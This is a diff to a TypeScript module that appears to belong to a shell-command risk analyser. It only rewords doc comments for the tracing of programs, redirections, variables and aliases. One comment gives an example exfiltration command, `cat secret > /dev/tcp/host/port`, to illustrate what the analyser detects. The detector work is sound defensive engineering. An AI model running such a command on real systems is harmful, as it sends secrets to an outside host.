@@ -1,4 +1,4 @@
-/** One use of a program: who it is, what its row tells, and what that comes to. */
+/** Traces one use of a program: which program it is, what its table row says, and the resulting part of the line. */
 
 import { onlyAsks } from "../dangers/builds/asking.ts";
 import type { Effect, Variable } from "../dangers/effect.ts";
@@ -52,7 +52,7 @@ export function invoke(
   return outputOf(draft);
 }
 
-/** What stands in front of a command is known to what it runs, and to nothing after it. */
+/** Variables set in front of a command apply to what it runs, and to nothing after it. */
 function withVariables(walk: Walk, variables: readonly Variable[]): Walk {
   if (variables.length === 0) return walk;
   const shell = subshell(walk.shell);
@@ -60,7 +60,7 @@ function withVariables(walk: Walk, variables: readonly Variable[]): Walk {
   return { ...walk, shell };
 }
 
-/** Redirections of a group of commands, or of none: `> file`. */
+/** Applies the redirections of a group of commands, or those without a command: `> file`. */
 export function tellStreams({ effects }: Streams, walk: Walk, { flows }: Output = silent): void {
   if (effects.length === 0) return;
   const draft = openDraft([], [], walk);
@@ -80,11 +80,11 @@ export function tellVariables(variables: readonly Variable[], walk: Walk): void 
   if (draft.findings.length > 0) addPart(walk.report, partOf(draft, { isPlain: false, row: undefined }));
 }
 
-/** Words as a command of its own. */
+/** Traces words as a separate command. */
 export const runWords = (words: readonly Word[], walk: Walk): Output =>
   invoke(words, { variables: [], isPlain: false }, walk);
 
-/** `cat secret > /dev/tcp/host/port`. */
+/** Output that a redirection sends: `cat secret > /dev/tcp/host/port`. */
 function sendStreams(effects: readonly Effect[], flows: ReadonlySet<Flow>, draft: Draft): void {
   if (!flows.has("secret") && !flows.has("private")) return;
   for (const effect of effects)
@@ -96,7 +96,7 @@ function touchStream(effect: Effect, draft: Draft): void {
   if (effect.type === "reads" || effect.type === "writes") touch(effect, { ...draft, made: [] });
 }
 
-/** Tells what the program does. Its row, where it has one. */
+/** Applies what the program does, and returns its row if it has one. */
 function understand(draft: Draft, here: Walk): Program | undefined {
   const { words, walk } = draft;
   const who = whoIs(words, walk.shell);
@@ -106,7 +106,7 @@ function understand(draft: Draft, here: Walk): Program | undefined {
       return who.row;
     case "file":
       loadFile(draft);
-      // A file may bear any name and do what it likes; what its namesake would do it may do too.
+      // A file may have any name and do anything, including what the known program of that name does.
       if (who.row) tellRow(who.row, draft, here);
       return who.row;
     case "one-of":
@@ -160,14 +160,14 @@ function unknownProgram(draft: Draft, because: string): void {
   const [first] = draft.words;
   draft.walk.report.doesMore = true;
   if (first && isUnknown(first)) note(draft, runsFlow(first.carries));
-  if (draft.walk.remote === "container") return; // an image has programs of its own
+  if (draft.walk.remote === "container") return; // an image brings its own programs
   note(draft, { severity: "high", because });
   if (draft.walk.isGuess) return;
   note(draft, guessed(draft.words.slice(1), draft.walk, runWords));
   worstCase(draft);
 }
 
-/** A program that nobody knows, with options to go deep, on a place that must not be lost. */
+/** An unknown program, with recursive options, on a place that must not be lost. */
 function worstCase(draft: Draft): void {
   const [, ...rest] = draft.words;
   for (const path of rest) {
@@ -190,7 +190,7 @@ function worstCase(draft: Draft): void {
   }
 }
 
-/** By default what a program prints carries what it was given. */
+/** By default, the output of a program carries what flows in through its input and arguments. */
 function finish(draft: Draft, row: Program | undefined): void {
   const { words, walk, flows } = draft;
   for (const flow of walk.input.flows) flows.add(flow);
@@ -227,13 +227,13 @@ function giveBack({ variables, references }: Shell, name: string, { words, refer
   if (reference !== undefined) references.set(name, reference);
 }
 
-/** It may be on or off: then the command means what it says. */
+/** Aliases may be off, so the command is also traced without the alias. */
 function followAlias([first = literal(""), ...rest]: readonly Word[], walk: Walk): void {
   const { shell } = walk;
   const text = shell.aliases.get(first.text);
   if (!text) return;
   const { positional } = shell;
-  shell.aliases.delete(first.text); // an alias means no alias of its own name
+  shell.aliases.delete(first.text); // an alias is not expanded in its own text
   shell.positional = rest;
   walk.follow.text(withText(text, `${text.text} "$@"`), { ...walk, isPlain: false });
   shell.positional = positional;
